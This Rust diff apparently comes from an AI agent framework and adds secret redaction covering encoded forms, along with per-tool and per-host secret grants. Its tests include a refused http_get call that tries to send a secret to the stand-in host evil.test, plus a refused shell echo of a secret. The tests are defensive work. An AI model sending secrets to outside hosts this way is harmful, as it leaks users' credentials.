@@ -41,12 +41,31 @@ impl Redactor {
         self.secrets.is_empty()
     }
 
+    /// Records `value` as secret `name`: the value itself and the forms a tool may hand it
+    /// back in — base64 (standard and URL-safe, also inside a longer encoded text),
+    /// URL-encoded, hex (either case).
     fn add(&mut self, name: &str, value: &str) {
-        if value.len() >= MIN_REDACTED && !self.secrets.iter().any(|(_, v)| v == value) {
-            self.secrets.push((name.to_owned(), value.to_owned()));
-            self.secrets
-                .sort_by_key(|(_, v)| std::cmp::Reverse(v.len()));
+        if value.len() < MIN_REDACTED {
+            return;
         }
+        for form in std::iter::once(value.to_owned()).chain(encoded_forms(value.as_bytes())) {
+            if form.len() >= MIN_REDACTED && !self.secrets.iter().any(|(_, v)| *v == form) {
+                self.secrets.push((name.to_owned(), form));
+            }
+        }
+        self.secrets
+            .sort_by_key(|(_, v)| std::cmp::Reverse(v.len()));
+    }
+
+    /// Every secret of `other` too.
+    pub fn merge(&mut self, other: &Redactor) {
+        for (name, value) in &other.secrets {
+            if !self.secrets.iter().any(|(_, v)| v == value) {
+                self.secrets.push((name.clone(), value.clone()));
+            }
+        }
+        self.secrets
+            .sort_by_key(|(_, v)| std::cmp::Reverse(v.len()));
     }
 
     /// `text` with every secret value replaced by `[secret NAME]`.
@@ -86,6 +105,222 @@ impl Redactor {
             _ => {}
         }
     }
+}
+
+/// The encodings of `value` a result could carry it in. Base64 is taken at each of the three
+/// alignments a value can have inside a longer encoded text (`user:TOKEN` as basic auth), each
+/// keeping only the characters the value alone determines.
+fn encoded_forms(value: &[u8]) -> Vec<String> {
+    use base64::Engine as _;
+    use base64::engine::general_purpose::{STANDARD_NO_PAD, URL_SAFE_NO_PAD};
+    let mut forms = Vec::new();
+    for engine in [&STANDARD_NO_PAD, &URL_SAFE_NO_PAD] {
+        for k in 0..3usize {
+            let mut padded = vec![0u8; k];
+            padded.extend_from_slice(value);
+            let text = engine.encode(&padded);
+            // Character i covers bits [6i, 6i + 6); the value's bytes bits [8k, 8(k + len)).
+            let start = (8 * k).div_ceil(6);
+            let end = (8 * (k + value.len())) / 6;
+            if let Some(part) = text.get(start..end) {
+                forms.push(part.to_owned());
+            }
+        }
+    }
+    let url = |upper: bool| -> String {
+        value
+            .iter()
+            .map(|&b| match b {
+                b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'.' | b'_' | b'~' => {
+                    (b as char).to_string()
+                }
+                _ if upper => format!("%{b:02X}"),
+                _ => format!("%{b:02x}"),
+            })
+            .collect()
+    };
+    forms.push(url(true));
+    forms.push(url(true).replace("%20", "+"));
+    forms.push(url(false));
+    let hex: String = value.iter().map(|b| format!("{b:02x}")).collect();
+    forms.push(hex.to_uppercase());
+    forms.push(hex);
+    forms
+}
+
+/// `[secrets.NAME]`: the tools (and, for `http_get`, the hosts) a secret may be passed to by
+/// reference in a call's arguments.
+#[derive(Debug, Clone, Default, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
+#[serde(deny_unknown_fields)]
+#[non_exhaustive]
+pub struct SecretGrant {
+    /// Tool name patterns (`http_get`, `gh__*`).
+    #[serde(default)]
+    pub tools: Vec<crate::access::ToolPattern>,
+    /// Host patterns an `http_get` call's URL must name (`api.github.com`, `*.example.com`);
+    /// empty: `http_get` may not receive the secret.
+    #[serde(default)]
+    pub hosts: Vec<String>,
+}
+
+impl SecretGrant {
+    /// A grant to `tools` and, for `http_get`, `hosts`.
+    pub fn new<I, S>(tools: I, hosts: Vec<String>) -> Self
+    where
+        I: IntoIterator<Item = S>,
+        S: Into<String>,
+    {
+        Self {
+            tools: tools
+                .into_iter()
+                .map(|t| crate::access::ToolPattern::new(t))
+                .collect(),
+            hosts,
+        }
+    }
+}
+
+/// The secrets a call's arguments may name as `${secret:NAME}`, and to whom: the invoker
+/// substitutes them after every policy check (conditions, approval) and just before the tool
+/// runs, so the model, a script, approvals, traces and the journal only hold the placeholder;
+/// what the tool returns is scrubbed of the value and its encodings.
+#[derive(Debug, Clone, Default)]
+pub struct SecretGrants {
+    grants: std::collections::BTreeMap<String, SecretGrant>,
+}
+
+/// The placeholder's opening.
+const OPEN: &str = "${secret:";
+
+impl SecretGrants {
+    /// The grants, by secret name.
+    pub fn new(grants: std::collections::BTreeMap<String, SecretGrant>) -> Self {
+        Self { grants }
+    }
+
+    /// Whether no secret is granted.
+    pub fn is_empty(&self) -> bool {
+        self.grants.is_empty()
+    }
+
+    /// Replaces each `${secret:NAME}` in the string values of `args` for a call of `tool`,
+    /// returning what to scrub from its result; a secret not granted to `tool` (or, for
+    /// `http_get`, to the URL's host) refuses the call, naming the secret and why.
+    pub fn substitute(&self, tool: &str, args: &mut Value) -> Result<Redactor, String> {
+        let mut redactor = Redactor::default();
+        if !contains_placeholder(args) {
+            return Ok(redactor);
+        }
+        let host = (tool == "http_get")
+            .then(|| args.get("url").and_then(Value::as_str).map(url_host))
+            .flatten();
+        self.walk(tool, host.as_deref(), args, &mut redactor)?;
+        Ok(redactor)
+    }
+
+    fn walk(
+        &self,
+        tool: &str,
+        host: Option<&str>,
+        value: &mut Value,
+        redactor: &mut Redactor,
+    ) -> Result<(), String> {
+        match value {
+            Value::String(text) if text.contains(OPEN) => {
+                let mut rest = text.as_str();
+                while let Some(at) = rest.find(OPEN) {
+                    let after = &rest[at + OPEN.len()..];
+                    let name = after.split('}').next().unwrap_or_default();
+                    self.check(tool, host, name)?;
+                    rest = after.get(name.len() + 1..).unwrap_or_default();
+                }
+                *text = expand(text, redactor)
+                    .map_err(|e| format!("a secret in the arguments of `{tool}`: {e}"))?;
+            }
+            Value::Array(items) => {
+                for v in items {
+                    self.walk(tool, host, v, redactor)?;
+                }
+            }
+            Value::Object(map) => {
+                for v in map.values_mut() {
+                    self.walk(tool, host, v, redactor)?;
+                }
+            }
+            _ => {}
+        }
+        Ok(())
+    }
+
+    fn check(&self, tool: &str, host: Option<&str>, name: &str) -> Result<(), String> {
+        let refuse = |why: String| {
+            Err(format!(
+                "the call passes ${{secret:{name}}} to `{tool}`, {why}; the call was refused \
+                 and the secret was not used"
+            ))
+        };
+        let Some(grant) = self.grants.get(name) else {
+            return refuse(format!(
+                "and no [secrets.{name}] grant names any tool; ask the operator to grant it"
+            ));
+        };
+        if !grant.tools.iter().any(|p| p.matches(tool)) {
+            let to: Vec<&str> = grant.tools.iter().map(|p| p.as_str()).collect();
+            return refuse(format!(
+                "which it is not granted to (granted to: {})",
+                if to.is_empty() {
+                    "no tool".into()
+                } else {
+                    to.join(", ")
+                }
+            ));
+        }
+        if tool == "http_get" {
+            let Some(host) = host else {
+                return refuse("whose URL names no host".into());
+            };
+            if !grant
+                .hosts
+                .iter()
+                .any(|h| crate::access::ToolPattern::new(h.as_str()).matches(host))
+            {
+                return refuse(format!(
+                    "for the host {host}, which it is not granted to (granted hosts: {})",
+                    if grant.hosts.is_empty() {
+                        "none".into()
+                    } else {
+                        grant.hosts.join(", ")
+                    }
+                ));
+            }
+        }
+        Ok(())
+    }
+}
+
+fn contains_placeholder(value: &Value) -> bool {
+    match value {
+        Value::String(s) => s.contains(OPEN),
+        Value::Array(items) => items.iter().any(contains_placeholder),
+        Value::Object(map) => map.values().any(contains_placeholder),
+        _ => false,
+    }
+}
+
+/// The host of an absolute URL (lowercase, without user info or port).
+fn url_host(url: &str) -> String {
+    let rest = url.split_once("://").map_or(url, |(_, r)| r);
+    let authority = rest.split(['/', '?', '#']).next().unwrap_or_default();
+    let host = authority.rsplit('@').next().unwrap_or_default();
+    let host = if host.starts_with('[') {
+        host.split(']')
+            .next()
+            .map(|h| format!("{h}]"))
+            .unwrap_or_default()
+    } else {
+        host.split(':').next().unwrap_or_default().to_owned()
+    };
+    host.to_ascii_lowercase()
 }
 
 /// Every secret value this process resolved so far, for [`redact_known`].
@@ -224,5 +459,89 @@ mod tests {
         r.add("A", "abcd");
         r.add("B", "abcdef");
         assert_eq!(r.redact("abcdef abcd"), "[secret B] [secret A]");
+    }
+
+    #[test]
+    fn every_encoding_of_a_value_is_scrubbed() {
+        use base64::Engine as _;
+        use base64::engine::general_purpose::{STANDARD, URL_SAFE};
+        let mut r = Redactor::default();
+        r.add("TOK", "s3cr3t/v@lue+Z");
+        let v = "s3cr3t/v@lue+Z";
+        let hex: String = v.bytes().map(|b| format!("{b:02x}")).collect();
+        for leaked in [
+            v.to_owned(),
+            STANDARD.encode(v),
+            URL_SAFE.encode(v),
+            STANDARD.encode(format!("user:{v}")),
+            STANDARD.encode(format!("ab:{v}:tail")),
+            "s3cr3t%2Fv%40lue%2BZ".to_owned(),
+            "s3cr3t%2fv%40lue%2bz".replace("z", "Z"),
+            hex.clone(),
+            hex.to_uppercase(),
+        ] {
+            let out = r.redact(&format!("echo: {leaked} end"));
+            assert!(out.contains("[secret TOK]"), "{leaked} -> {out}");
+            assert!(!out.contains(&leaked), "{leaked} -> {out}");
+        }
+    }
+
+    #[test]
+    fn grants_substitute_only_for_granted_tools_and_hosts() {
+        // SAFETY-free stand-in: HOME is always set in the test environment.
+        let home = std::env::var("HOME").unwrap();
+        let grants = SecretGrants::new(
+            [(
+                "HOME".to_owned(),
+                SecretGrant::new(
+                    ["http_get", "gh__*"],
+                    vec!["api.github.com".into(), "*.example.com".into()],
+                ),
+            )]
+            .into_iter()
+            .collect(),
+        );
+        let mut args = json!({"url": "https://api.github.com/user?t=${secret:HOME}"});
+        let r = grants.substitute("http_get", &mut args).unwrap();
+        assert_eq!(args["url"], format!("https://api.github.com/user?t={home}"));
+        assert_eq!(r.redact(&format!("x{home}x")), "x[secret HOME]x");
+        let mut args = json!({"url": "https://x.example.com:8443/a", "h": ["${secret:HOME}"]});
+        assert!(grants.substitute("http_get", &mut args).is_ok());
+        let mut args = json!({"body": {"token": "${secret:HOME}"}});
+        assert!(grants.substitute("gh__create_issue", &mut args).is_ok());
+        assert_eq!(args["body"]["token"], home);
+        let err = grants
+            .substitute(
+                "http_get",
+                &mut json!({"url": "https://evil.test/?t=${secret:HOME}"}),
+            )
+            .unwrap_err();
+        assert!(
+            err.contains("host evil.test") && err.contains("${secret:HOME}"),
+            "{err}"
+        );
+        let err = grants
+            .substitute("shell", &mut json!({"command": "echo ${secret:HOME}"}))
+            .unwrap_err();
+        assert!(
+            err.contains("not granted to (granted to: http_get, gh__*)"),
+            "{err}"
+        );
+        let err = grants
+            .substitute(
+                "http_get",
+                &mut json!({"url": "https://api.github.com/${secret:OTHER}"}),
+            )
+            .unwrap_err();
+        assert!(err.contains("no [secrets.OTHER] grant"), "{err}");
+        let mut plain = json!({"url": "https://evil.test/"});
+        assert!(
+            grants
+                .substitute("http_get", &mut plain)
+                .unwrap()
+                .is_empty()
+        );
+        assert_eq!(url_host("http://u:p@[::1]:80/x"), "[::1]");
+        assert_eq!(url_host("HTTPS://API.github.com?x"), "api.github.com");
     }
 }
